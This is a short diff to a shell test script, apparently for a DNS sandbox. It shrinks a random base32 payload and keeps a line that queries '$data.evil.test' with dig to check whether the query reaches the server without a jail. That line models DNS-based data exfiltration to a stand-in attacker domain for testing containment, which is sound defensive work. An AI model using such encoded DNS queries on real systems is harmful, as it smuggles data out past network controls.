@@ -16,7 +16,7 @@ seen() # PATTERN: how many queries the server has seen
 {
 	grep -c "query\[.*$1" "$T/dns.log" || true
 }
-data=$(head -c 40 /dev/urandom | base32 -w 0 | tr -d = | tr '[:upper:]' '[:lower:]')
+data=$(head -c 30 /dev/urandom | base32 -w 0 | tr -d = | tr '[:upper:]' '[:lower:]')
 
 run dig +short "$data.evil.test" "@$DNS4"
 expect_eq "$(seen "$data")" 1 'queries without a jail'
